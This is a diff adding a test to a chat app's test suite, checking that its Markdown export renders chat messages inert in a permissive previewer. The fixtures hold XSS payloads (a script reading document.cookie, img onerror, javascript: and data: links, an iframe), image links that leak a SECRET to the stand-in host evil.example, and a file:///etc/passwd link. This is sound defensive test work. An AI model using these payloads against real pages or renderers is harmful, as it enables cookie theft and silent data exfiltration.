@@ -4,10 +4,14 @@ message search and export."""
 from __future__ import annotations
 
 import json
+from html.parser import HTMLParser
 from pathlib import Path
+from typing import Any
+
+from markdown_it import MarkdownIt
 
 from app.services.chat import ChatService, Done
-from app.services.chat_export import answer_with_sources, export_markdown
+from app.services.chat_export import answer_with_sources, export_json, export_markdown
 from app.services.sessions import SessionIndex, SessionInfo
 from tests.fakes.chat import FakeChatModel
 from tests.test_chat_service import make_service
@@ -133,6 +137,70 @@ def test_earlier_versions_are_in_the_markdown() -> None:
     text = export_markdown(info, [{"role": "user", "content": "Q?"}, answer])
     assert "### Earlier answer 1 of 2\n\nFirst." in text
     assert "## Answer (2 of 2)\n\nSecond." in text
+
+
+LIVE_QUESTION = (
+    "What about ![x](http://evil.example/leak.png?q=SECRET) and <img src=x onerror=alert(1)>?"
+)
+LIVE_ANSWER = (
+    "<script>alert(document.cookie)</script> Read [click](javascript:alert(1)) or "
+    '<iframe src="http://evil.example/frame"></iframe>, and [here](https://example.org/ok).\n\n'
+    "> ![a quoted](http://evil.example/quoted.png) [as data](DATA:text/html,x)\n\n"
+    "<div>\n<img src=http://evil.example/block.png>\n</div>\n\n"
+    "| file | note |\n|---|---|\n"
+    "| ![cell](http://evil.example/cell.png) | [f](file:///etc/passwd) |\n\n"
+    "Keep `![code](http://example.org/c.png)` as code."
+)
+
+
+class Previewer(MarkdownIt):
+    """A careless Markdown previewer: raw HTML on, tables on, any link followed."""
+
+    def validateLink(self, url: str) -> bool:
+        return True
+
+
+class Elements(HTMLParser):
+    """Every element of an HTML page, with its attributes."""
+
+    def __init__(self, page: str) -> None:
+        super().__init__()
+        self.found: list[tuple[str, dict[str, str | None]]] = []
+        self.feed(page)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, dict(attrs)))
+
+
+def previewed(text: str) -> str:
+    return str(Previewer("commonmark", {"html": True}).enable(["table"]).render(text))
+
+
+INERT_TAGS = {"h1", "h2", "h3", "p", "ul", "li", "blockquote", "code", "pre", "strong", "em"}
+INERT_TAGS |= {"a", "table", "thead", "tbody", "tr", "th", "td"}
+
+
+def test_the_markdown_export_carries_nothing_a_previewer_would_fetch_or_run() -> None:
+    info = SessionInfo("s", LIVE_QUESTION, "2026-01-01", "2026-01-01")
+    answer = {"role": "assistant", "content": LIVE_ANSWER, "sources": [], "versions": []}
+    messages: list[dict[str, Any]] = [{"role": "user", "content": LIVE_QUESTION}, answer]
+    text = export_markdown(info, messages)
+    html = previewed(text)
+    elements = Elements(html).found
+    assert {tag for tag, _ in elements} <= INERT_TAGS  # no img, script, iframe, div
+    links = [attrs for tag, attrs in elements if tag == "a"]
+    assert links == [{"href": "https://example.org/ok"}]  # no javascript:, data:, file:
+    # What was said is still there to read, as text.
+    assert "image: x (`http://evil.example/leak.png?q=SECRET`)" in text
+    assert "image: cell (`http://evil.example/cell.png`)" in text
+    assert "&lt;script&gt;alert(document.cookie)&lt;/script&gt;" in html
+    assert "&lt;img src=x onerror=alert(1)&gt;" in html
+    assert "Read click or" in text and "as data" in text
+    assert '<a href="https://example.org/ok">here</a>' in html  # other links stay links
+    assert "Keep `![code](http://example.org/c.png)` as code." in text  # code is untouched
+    # The JSON export keeps every text as it was said.
+    kept = json.loads(export_json(info, messages))
+    assert [m["content"] for m in kept["messages"]] == [LIVE_QUESTION, LIVE_ANSWER]
 
 
 def test_search_finds_words_of_the_messages(tmp_path: Path) -> None:
